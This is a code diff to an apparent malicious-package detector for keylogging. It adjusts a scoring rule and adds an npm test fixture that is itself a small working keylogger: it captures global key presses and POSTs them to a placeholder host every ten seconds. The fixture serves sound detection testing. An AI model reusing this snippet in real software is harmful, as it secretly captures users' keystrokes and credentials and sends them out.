@@ -1,3 +1,4 @@
+import { isJavascript } from "../behaviour/bundles.ts";
 import { marks } from "../behaviour/marks.ts";
 import { deedsOf, flowsBetween } from "../behaviour/trace.ts";
 import type { Detector } from "../detector.ts";
@@ -30,7 +31,7 @@ Remote-control and testing tools do so openly, on request, and as their stated p
       if (keys !== undefined && sends !== undefined) {
         yield sight(file, keys.offset, `${keys.what} records key strokes in a file that also sends (${sends.what})`, {
           phase: keys.phase,
-          share: sends.act === "mail" ? 1 : 0.7,
+          share: sends.act === "mail" ? 1 : isJavascript(file) ? 0.8 : 0.7,
         });
       }
     }
@@ -55,6 +56,13 @@ Remote-control and testing tools do so openly, on request, and as their stated p
       },
     ],
     evasions: [
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
+            "const { GlobalKeyboardListener } = require('node-global-key-listener');\nconst k = new GlobalKeyboardListener();\nlet b = '';\nk.addListener((e) => { b += e.name; });\nsetInterval(() => fetch('https://example.invalid', { method: 'POST', body: b }), 10000);\n",
+        },
+      },
       {
         ecosystem: "pypi",
         files: {
